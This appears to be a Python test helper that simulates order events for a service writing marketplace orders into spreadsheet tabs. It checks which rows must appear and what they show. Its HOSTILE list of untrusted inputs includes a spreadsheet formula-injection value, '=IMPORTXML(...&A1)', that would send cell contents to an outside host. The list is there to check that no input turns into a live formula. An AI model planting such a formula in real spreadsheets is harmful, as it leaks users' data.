"""The orders of a schedule as the test knows them: what sellers and buyers do, which rows must be there.

Which rows there must be is kept here, by the words of the design: a row comes when its order first passes the filter,
and stays for good. What a row shows is projected anew from the order in hand, never read from the product's database.
"""

from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import timedelta

from core.made_orders import BUYER, make_line, make_order
from msgspec.structs import replace

from service.core.cells import Cell, text_cell
from service.core.orders import Line, Order, newer
from service.core.profiles import Row, project
from service.core.zones import zone
from service.flows import Services, ingest, sources
from service.flows.sources import Bound
from service.store import orders, people, sheets, shops
from service.store.orders import NoteRow
from service.store.records import ShopRow

#: What strangers write into their names, notes and SKUs: nothing of it may become a formula, a number or a link.
HOSTILE = (
    '=IMPORTXML("http://x/?"&A1)', "+1", "@x", "-2", "example.com", "0012", "1e5", "🧦 sock", "שלום", "TRUE", "'quoted",
    "1/2/2026", "  spaced ", "line\nbreak",
)  # fmt: skip
SHIPPED = "AWAITING_COLLECTION"
FINISHED = frozenset({"DELIVERED", "COMPLETED", "CANCELLED"})
MONTHS = timedelta(days=61)


@dataclass
class Orderbook:
    """Every order of a schedule in its latest version. `bound`: the tabs they are shown in; `tick` lets time pass, so
    that no two versions of an order are of the same moment.
    """

    services: Services
    shop: ShopRow
    spreadsheet_id: str
    bound: tuple[Bound, ...]
    tick: Callable[[], None]
    orders: dict[str, Order] = field(default_factory=dict)
    notes: dict[str, NoteRow] = field(default_factory=dict)
    rows: dict[str, dict[str, str]] = field(default_factory=dict)  # binding id → row key → order id
    vanished: set[str] = field(default_factory=set)  # row keys whose line is no longer in its order

    def keys(self, binding_id: str) -> Mapping[str, str]:
        """The row keys that must stand in this tab, each with its order."""
        return self.rows.get(binding_id, {})

    # --- what happens ---

    def act(self, name: str, a: int, b: int) -> str:
        """The trade happens and the product learns of it. Returns the sentence."""
        if name != "place" and not self.orders:
            name = "place"
        return TRADES[name](self, a, b)

    def take(self, order: Order) -> None:
        """The product fetched this version."""
        now = self.services.clock.market()
        fetched = replace(order, updated_at=now, fetched_at=now)
        _, fresh = newer(self.orders.get(order.order_id), fetched)  # a status never moves back
        self.tick()
        self.orders[fresh.order_id] = fresh
        ingest.save(self.services, self.shop, [fetched])
        self._expect(fresh)

    def chosen(self, a: int) -> Order:
        return self.orders[sorted(self.orders)[a % len(self.orders)]]

    def _expect(self, order: Order) -> None:
        for one in self.bound:
            wanted = self.rows.setdefault(one.row.id, {})
            for source in self._sources(one, order):
                self.vanished.discard(source.row_key)
                if not one.profile.row_filter.statuses or order.status in one.profile.row_filter.statuses:
                    wanted[source.row_key] = order.order_id
            found = {source.row_key for source in self._sources(one, order)}
            self.vanished |= {key for key, owner in wanted.items() if owner == order.order_id and key not in found}

    def _sources(self, one: Bound, order: Order) -> tuple:
        note = self.notes.get(order.order_id)
        return sources.rows_of(self.services, one, order, shop=self.shop, note=note)

    def reopen(self, binding_id: str) -> None:
        """The tab has taken a changed profile over: every order that fits it now gets a row."""
        with self.services.store.read() as tx:
            row = sheets.binding_unscoped(tx, binding_id)
        fresh = sources.open_binding(self.services, row)
        self.bound = tuple(fresh if one.row.id == binding_id else one for one in self.bound)
        for order in self.orders.values():
            self._expect(order)

    def finished(self, binding_id: str, *, days: int) -> set[str]:
        """Row keys, still made by their orders, of orders that were finished for longer than so many days."""
        since = self.services.clock.market() - timedelta(days=days)
        old = {one.order_id for one in self.orders.values() if one.status in FINISHED and one.updated_at <= since}
        return {key for key, owner in self.keys(binding_id).items() if owner in old and key not in self.vanished}

    # --- what must be seen ---

    def truth(self, binding_id: str) -> dict[str, Mapping[str, Cell]]:
        """Row key → column key → cell, of the rows whose line is still there."""
        with self.services.store.read() as tx:
            file = sheets.file_unscoped(tx, self.spreadsheet_id)
            audience = people.account(tx, self.shop.account_id).audience(file.audience)
        (one,) = [one for one in self.bound if one.row.id == binding_id]
        found: dict[str, Row] = {}
        for order_id in set(self.keys(binding_id).values()):
            for source in self._sources(one, self.orders[order_id]):
                found[source.row_key] = project(one.profile, audience, source, where=zone(file.time_zone))
        removed = {"status": text_cell("removed")}
        gone = {key: removed for key in self.keys(binding_id) if key in self.vanished}
        return gone | {key: found[key].cells for key in self.keys(binding_id) if key in found}


def _place(book: Orderbook, a: int, b: int) -> str:
    made = []
    for _ in range(1 + a % 3):
        number = len(book.orders) + 1
        order_id = f"57640000000000{number:04d}"
        skus = ("A", "B") if (b + number) % 3 == 0 else ("A",)
        lines = tuple(
            make_line(at, sku, line_id=f"{order_id}{at}", sku_name=HOSTILE[(b + at) % len(HOSTILE)])
            for at, sku in enumerate(skus, start=1)
        )
        created_at = book.services.clock.market() - timedelta(minutes=5)
        recipient = replace(BUYER, name=HOSTILE[b % len(HOSTILE)])
        book.take(
            make_order(
                shop_id=book.shop.id, order_id=order_id, lines=lines, created_at=created_at, recipient=recipient,
                paid_at=created_at,
            )
        )  # fmt: skip
        made.append(order_id[-4:])
    return f"New orders …{', …'.join(made)}."


def _moved(order: Order, status: str, **changes: object) -> Order:
    lines = tuple(replace(line, status=status, **_shared(changes)) for line in order.lines)
    return replace(order, status=status, lines=lines, **changes)  # type: ignore[arg-type]  # fields of an order


def _shared(changes: Mapping[str, object]) -> dict[str, object]:
    return {name: value for name, value in changes.items() if name in Line.__struct_fields__}


def _ship(book: Orderbook, a: int, b: int) -> str:
    order = book.chosen(a)
    tracking = f"TRK{b}{order.order_id[-3:]}"
    book.take(_moved(order, SHIPPED, tracking=tracking, provider=HOSTILE[b % len(HOSTILE)].strip()))
    return f"Order …{order.order_id[-4:]} is shipped with tracking {tracking}."


def _retrack(book: Orderbook, a: int, b: int) -> str:
    """The value may go there and back."""
    order = book.chosen(a)
    tracking = f"TRK{b % 2}"
    book.take(_moved(order, order.status, tracking=tracking))
    return f"Order …{order.order_id[-4:]} has the tracking number {tracking} now."


def _deliver(book: Orderbook, a: int, b: int) -> str:
    order = book.chosen(a)
    book.take(_moved(order, "DELIVERED", delivered_at=book.services.clock.market()))
    return f"Order …{order.order_id[-4:]} is delivered."


def _cancel(book: Orderbook, a: int, b: int) -> str:
    order = book.chosen(a)
    book.take(_moved(order, "CANCELLED", cancel_reason=HOSTILE[b % len(HOSTILE)]))
    return f"Order …{order.order_id[-4:]} is cancelled."


def _vanish(book: Orderbook, a: int, b: int) -> str:
    """A line may vanish from its order, and come back."""
    order = book.chosen(a)
    skus = dict.fromkeys(line.sku_id for line in order.lines)
    if len(skus) > 1:
        book.take(replace(order, lines=tuple(line for line in order.lines if line.sku_id != list(skus)[b % len(skus)])))
        return f"A line vanishes from order …{order.order_id[-4:]}."
    lines = (make_line(1, "A", line_id=f"{order.order_id}1"), make_line(2, "B", line_id=f"{order.order_id}2"))
    book.take(replace(order, lines=tuple(replace(line, status=order.status) for line in lines)))
    return f"Order …{order.order_id[-4:]} has two lines now."


def _note(book: Orderbook, a: int, b: int) -> str:
    order = book.chosen(a)
    text = HOSTILE[b % len(HOSTILE)]
    note = NoteRow(book.shop.id, order.order_id, "red" if b % 2 else "", text, is_shared=True, assignee="", customs=[])
    services = book.services
    book.notes[order.order_id] = note
    with services.store.write() as tx:
        orders.write_note(tx, note, written_by="test", now=services.clock.now())
        ingest.touch(
            services, tx, account_id=book.shop.account_id, shop_id=book.shop.id, order_id=order.order_id
        )  # fmt: skip
    return f"Somebody notes {text!r} on order …{order.order_id[-4:]}."


def _months(book: Orderbook, a: int, b: int) -> str:
    """Orders grow old. Only market time moves, as with `advance` of the local world."""
    book.services.clock.market_clock.advance(MONTHS.total_seconds())
    return "Two months pass on the market."


TRADES: Mapping[str, Callable[[Orderbook, int, int], str]] = {
    "place": _place,
    "ship": _ship,
    "retrack": _retrack,
    "deliver": _deliver,
    "cancel": _cancel,
    "vanish": _vanish,
    "note": _note,
    "months": _months,
}


def open_book(
    services: Services, spreadsheet_ids: Sequence[str], shop_id: str, *, tick: Callable[[], None]
) -> Orderbook:
    """No orders yet, and the tabs as they are bound. The files are written for one audience in one zone."""
    with services.store.read() as tx:
        rows = [row for one in spreadsheet_ids for row in sheets.bindings_in(tx, one)]
        bound = tuple(sources.open_binding(services, row) for row in rows)
        shop = shops.shop_unscoped(tx, shop_id)
    assert shop is not None
    return Orderbook(services, shop, spreadsheet_ids[0], bound, tick)
